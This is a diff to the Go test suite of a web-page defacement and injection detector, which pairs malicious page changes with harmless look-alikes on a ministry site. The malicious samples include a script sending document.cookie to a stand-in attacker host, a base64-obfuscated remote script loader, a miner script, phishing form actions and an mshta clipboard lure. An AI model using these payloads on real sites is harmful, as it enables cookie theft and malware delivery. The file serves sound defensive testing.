@@ -24,18 +24,31 @@ var (
 const honestWidget = `(function(){var box=document.createElement("div");box.className="w";box.textContent="Share";document.body.appendChild(box)})();`
 
 var trials = []trial{
+	{"defacement.account", Suspicious, added("<p>Send the fee to bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq</p>"), added("<p>Pay the fee of Rs. 1,250,000 to account 36-1123456702 by 2026-11-24</p>")},
+	{"defacement.contact", Suspicious, paidTo("write to info@planning.gov.pk", "write to refund.desk@mail.example"), paidTo("10:30", "11:45")},
 	{"defacement.title", Alert, replaced("<title>Ministry", "<title>Hacked by QuietFox - Ministry"), replaced("<title>Ministry", "<title>Eid Mubarak - Ministry")},
 	{"defacement.dialog", Alert, seen(func(v *View) { v.Dialogs = []string{"H4cked By QuietFox!!"} }), seen(func(v *View) { v.Dialogs = []string{"This site uses cookies"} })},
 	{"defacement.phrase", Alert, added("<div>Hacked by QuietFox</div>"),
 		added("<p><a href=/news/7>Cyber wing: Website of the ministry hacked by unknown group, says spokesman</a></p>")},
-	{"defacement.words", Suspicious, added("<p>Officials told the press on Monday that two portals of the province were hacked by a group from abroad and have since been restored with the help of the national response team.</p>"),
-		added("<p>The workshop on computer security was attended by officers of all divisions.</p>")},
+	{"defacement.words", Suspicious, added("<p>Two of the portals of the province were hacked by foxes of the north and nobody has seen any of them since, in the hills or elsewhere</p>"),
+		added("<p>Officials told the press on Monday that two portals of the province were hacked by a group from abroad and have since been restored with the help of the national response team.</p>")},
+	{"defacement.picture_phrase", Alert, pictureSays("HACKED BY QUIETFOX", "", "Your security is zero"),
+		pictureSays("MINISTRY OF PLANNING", "", "National Conference on Water Security", "Hosted by the Planning Commission, backed by the World Bank", "", "12 to 14 December 2026, Convention Centre, Islamabad")},
+	{"defacement.picture_words", Suspicious, pictureSays("WEBSITE OF THE FOREST BOARD", "HACKED BY QUIETFOX"),
+		pictureSays("Web site of the forest board", "hacked by a group from abroad, police say", "", "The site was restored within hours, a spokesman said")},
+	{"defacement.crew", Suspicious, added("<h2>~ Gh0st_W1nd | N1ghtj4r | Qu13t Fox ~</h2><p>t.me/quiet_foxes_example</p>"),
+		added("<h2>YouTube | LinkedIn | WhatsApp | GitHub</h2><p>Join our Telegram channel t.me/planning_example for CS101, FY2025, COVID-19 and 4G news</p>")},
+	{"defacement.character", Suspicious, added("<h2>Rubah yang pendiam datang dari utara dan tidak ada yang bisa melihat kami, karena kami adalah angin untuk kalian</h2>"),
+		added("<h2>یوم آزادی مبارک! پاکستان کے تمام شہریوں کو وزارت منصوبہ بندی کی جانب سے مبارک باد اور نیک تمنائیں</h2>")},
 	{"defacement.replaced", Alert, wholePage("~", "<img src=/x.gif><p>silence is the loudest word that the foxes ever said to anybody out here</p>"),
 		wholePage("Ministry of Planning, Development and Reform", "<img src=/img/emblem.png><h1>Ministry of Planning, Development and Reform</h1><p>We mourn the loss of life.</p><a href=/about>Continue</a><a href=/projects>Projects</a><a href=/tenders>Tenders</a>")},
 	{"defacement.redesign", Suspicious, wholePage("Ministry of Planning, Development and Reform", redesigned), added("<p>One more notice.</p>")},
 	{"defacement.emptied", Suspicious, func(t testing.TB) Look { return edited(t, emptied) }, replaced("The Ministry of Planning prepares", "The Ministry now prepares")},
 	{"defacement.covered", Suspicious, func(t testing.TB) Look { return covered(t, night) }, func(t testing.TB) Look { return ministryLook(t, 4) }},
 	{"defacement.image", Alert, heroPainted("/img/hero.jpg", night), heroPainted("/img/hero-2.jpg", day)},
+	{"defacement.logo", Alert, emblemPainted("/img/emblem.png"), ministryAt(4)},
+	{"defacement.images", Alert, officePictures("/img/x.jpg"), officePictures("")},
+	{"defacement.picture_only", Alert, func(t testing.TB) Look { return posterPage(t, "Ministry of Planning, Development and Reform") }, ministryAt(4)},
 	{"defacement.new_dialog", Suspicious, seen(func(v *View) { v.Dialogs = []string{"Welcome"} }), added("<p>Welcome</p>")},
 	{"defacement.dialog_loop", Alert, seen(func(v *View) { v.Dialogs = slices.Repeat([]string{"please wait"}, 21) }),
 		seen(func(v *View) { v.Dialogs = slices.Repeat([]string{"please wait"}, 20) })},
@@ -51,6 +64,10 @@ var trials = []trial{
 	{"injection.redirect_script", Alert, added(`<script>setTimeout(function(){window.location.href="https://evil-land.top/win"},10)</script>`),
 		added(`<script>if(screen.width<500){window.location.href="/mobile/"}</script>`)},
 	{"injection.miner", Alert, external("https://evil-coin.top/m.js", `var m=new CoinHive.Anonymous("k");var n="coinhive.min";m.start();`), external("https://www.planning.gov.pk/js/w.js", honestWidget)},
+	{"injection.cookies", Alert, added(`<script>new Image().src="https://log.evil-jar.top/c?c="+escape(document.cookie)</script>`),
+		added(`<script>function get(n){return ("; "+document.cookie).split("; "+n+"=").pop()}new Image().src="https://hits.example-count.org/p?l="+get("lang")</script>`)},
+	{"injection.loader", Alert, added(`<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9jZG4uZXZpbC10YWcudG9wL2EuanM=");document.head.appendChild(s)</script>`),
+		added(`<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly93d3cuZ29vZ2xldGFnbWFuYWdlci5jb20vZ3RhZy9qcw==");document.head.appendChild(s)</script>`)},
 	{"injection.script_host", Suspicious, external("https://widgets.example-share.com/w.js", honestWidget), external("https://cdn.jsdelivr.net/npm/swiper@11/swiper.min.js", honestWidget)},
 	{"injection.destination", Suspicious, seen(func(v *View) { v.Destinations = []Destination{{"collect.evil-drop.top", 812}} }),
 		seen(func(v *View) {
@@ -65,6 +82,10 @@ var trials = []trial{
 	{"injection.frame", Suspicious, added(`<iframe src="https://live.example-stream.com/tv"></iframe>`), added(`<iframe src="https://www.google.com/maps/embed?pb=1"></iframe>`)},
 	{"injection.hidden_frame", Alert, added(`<iframe src="https://gate.evil-kit.top/" width=1 height=1></iframe>`), added(`<iframe src="https://www.googletagmanager.com/ns.html" width=0 height=0 style="display:none"></iframe>`)},
 	{"injection.form_action", Alert, replaced("action=/login", "action=https://evil-login.top/in"), replaced("action=/login", "action=https://sso.planning.gov.pk/login")},
+	{"injection.form_secrets", Suspicious, added(`<form action=/pay method=post><input name=cardnumber><input name=cvv></form>`), added(`<form action=/feedback method=post><input name=name><input name=pincode><textarea name=text></textarea></form>`)},
+	{"injection.canonical", Suspicious, seen(func(v *View) { v.Meta.Canonical = "https://www.evil-rank.top/" }), seen(func(v *View) { v.Meta.Canonical = "https://planning.gov.pk/home" })},
+	{"injection.icon", Suspicious, seen(func(v *View) { v.Meta.Icon = "https://i.evil-mark.top/i.png" }), seen(func(v *View) { v.Meta.Icon = "https://planning.gov.pk/new.png" })},
+	{"injection.manifest", Suspicious, seen(func(v *View) { v.Meta.Manifest = "https://a.evil-app.top/m.json" }), seen(func(v *View) { v.Meta.Manifest = "https://www.planning.gov.pk/site.webmanifest" })},
 	{"injection.meta_refresh", Alert, headed(`<meta http-equiv=refresh content="0;url=https://evil-land.top/">`), headed(`<meta http-equiv=refresh content="300;url=/">`)},
 	{"injection.base_href", Alert, headed(`<base href="https://evil-base.top/">`), headed(`<base href="https://www.planning.gov.pk/">`)},
 	{"injection.redirect", Alert, func(t testing.TB) Look {
@@ -75,6 +96,8 @@ var trials = []trial{
 	{"injection.download", Alert, seen(func(v *View) {
 		v.Downloads = []Download{{"https://evil-file.top/update.exe", "update.exe", "application/octet-stream"}}
 	}), added("<a href=/form.pdf>Form</a>")},
+	{"injection.program", Alert, added("<div>Your browser is out of date. <a href=https://get.evil-font.top/setup.exe>Install the update</a></div>"),
+		added("<div>For the tax form you need <a href=https://get.adobe.com/reader/>Reader</a>; <a href=/files/psid.exe>our calculator</a> can be installed, too.</div>")},
 	{"injection.redirect_hop", Suspicious, seen(func(v *View) {
 		v.Hops = []Hop{{ministryURL, "script"}, {"https://sort.evil-tds.top/r?c=1", "http"}}
 	}), seen(func(v *View) {
@@ -89,6 +112,7 @@ var trials = []trial{
 	{"injection.clipboard", Alert, seen(func(v *View) { v.Asks = []Ask{{"clipboard_write", "mshta https://evil-paste.top/x"}} }), ministryAt(4)},
 	{"injection.clipboard_read", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"clipboard_read", ""}} }), ministryAt(4)},
 	{"injection.permission", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"notification", ""}, {"camera", ""}} }), ministryAt(4)},
+	{"injection.service_worker", Suspicious, seen(func(v *View) { v.Asks = []Ask{{"service_worker", "/sw-7f2.js"}} }), ministryAt(4)},
 	{"injection.reach_metadata", Alert, seen(func(v *View) { v.Refused = []Refusal{{"169.254.169.254", 80, refusedPrivate, ""}} }),
 		seen(func(v *View) { v.Refused = []Refusal{{"169.254.169.253", 80, refusedPrivate, ""}} })},
 	{"injection.reach_inside", Suspicious, seen(func(v *View) {
@@ -99,10 +123,21 @@ var trials = []trial{
 		seen(func(v *View) { v.Refused = []Refusal{{"stream.planning.gov.pk", 8000, refusedPort, ""}} })},
 	{"injection.lure", Alert, added("<p>Verify you are human: press Windows key + R, then press Ctrl + V and press Enter</p>"), added("<p>Press Ctrl + P to print the form.</p>")},
 	{"leak.cnic", Alert, added(identities(24)), added("<p>Write your number as 35202-1234567-1, epoch 1700000000000, order 99999-1234567-1.</p>")},
-	{"leak.card", Alert, added("<p>4111 1111 1111 1111, 5500-0000-0000-0004, 4012888888881881, 6011000990139424</p>"), added("<p>Tracking 4111111111111112, 5500000000000005 and 9999999999999995; call 0092519201234567</p>")},
+	{"leak.card", Alert, added("<p>4716 0219 8834 5073, 5312-7700-4419-6285, 4929330187260451, 6011730052981145</p>"), added("<p>Tracking 4111111111111112, 5500000000000005 and 9999999999999995; call 0092519201234567</p>")},
 	{"leak.iban", Alert, added("<p>" + strings.Join(ibans(12), "</p><p>") + "</p>"), added("<p>Donate to " + ibans(1)[0] + ", not to PK00SCBL0000001123456702</p>")},
 	{"leak.mail", Suspicious, added("<p>" + mails(30, "gmail.com") + "</p>"), added("<p>" + mails(9, "planning.gov.pk") + "</p>")},
-	{"leak.secrets", Alert, added("<pre>DB_USERNAME=root\nDB_PASSWORD=hunter2-example\nAPP_KEY=base64:abc</pre>"), added("<p>The DATABASE_URL variable is described in the manual.</p>")},
+	{"leak.phone", Suspicious, added("<p>" + mobiles(60) + "</p>"), added("<p>" + mobiles(30) + "</p>")},
+	{"leak.passport", Alert, added("<table><tr><th>Name</th><th>Passport No.</th></tr>" + passports(12) + "</table>"),
+		added("<p>Tender references KP1002031, KP1002032, KP1002033, KP1002034, KP1002035, KP1002036.</p>")},
+	{"leak.passwords", Alert, added("<pre>" + combos(12) + "</pre>"), added("<p>Send your user name, never your password, to " + mails(9, "gmail.com") + "</p>")},
+	{"leak.sql_dump", Alert, added("<pre>-- MySQL dump 10.19 Distrib 10.6 DROP TABLE `users`; CREATE TABLE `users` ( `id` int ); INSERT INTO `users` VALUES (1,'amna','x');</pre>"),
+		added("<p>The dump truck fleet was inserted into the asset register; see the table of values.</p>")},
+	{"leak.server_file", Alert, added("<pre>root:x:0:0:root:/root:/bin/bash daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin www-data:x:33:33::/var/www:/bin/sh</pre>"),
+		added("<p>Every account has a line of its own, beginning with the name.</p>")},
+	{"leak.log", Alert, added("<pre>" + accessLog(40) + "</pre>"), added("<p>On 12/Mar/2026 the portal served 40,218 requests, most of them with GET.</p>")},
+	{"leak.server_status", Alert, added("<h1>Apache Server Status for www.planning.gov.pk</h1><dl><dt>Server uptime: 3 days</dt></dl>"),
+		added("<p>The status of the server room was inspected.</p>")},
+	{"leak.secrets", Alert, added("<pre>DB_USERNAME=portal_rw\nDB_PASSWORD=Kh4ir!9pur\nAPP_KEY=base64:q0VtT2xkS2V5</pre>"), added("<p>The DATABASE_URL variable is described in the manual.</p>")},
 	{"leak.phpinfo", Alert, added("<h1>PHP Version 8.1.2</h1><td>Loaded Configuration File</td>"), added("<p>Runs on PHP Version 8</p>")},
 	{"leak.directory", Alert, wholePage("Index of /", "<h1>Index of /</h1><a href=/>Parent Directory</a><a href=backup.zip>backup.zip</a><a href=db.sql>db.sql</a>"), added("<h2>Index of publications</h2>")},
 	{"leak.sql_error", Alert, added("<b>Warning: mysqli_query(): (42000/1064)</b> You have an error in your SQL syntax near"), added("<p>A course on MySQL and its SQL syntax begins in May.</p>")},
@@ -169,8 +204,16 @@ func TestImagesThatOnlyLookExchanged(t *testing.T) {
 // Every rule finds what it is for and leaves the nearest harmless thing alone.
 func TestRules(t *testing.T) {
 	b := ministryBaseline(t)
+	reachable := reachableMinistry(t)
 	for _, tr := range trials {
 		t.Run(tr.rule, func(t *testing.T) {
+			b := b
+			switch tr.rule {
+			case "defacement.contact":
+				b = reachable
+			case "defacement.images":
+				b = officeBaseline()
+			}
 			r := Compare(b, tr.bad(t), nil)
 			if !hasRule(r, tr.rule) || r.Verdict != tr.verdict {
 				t.Errorf("bad page: want %s by %s, got %s", tr.verdict, tr.rule, describe(r))
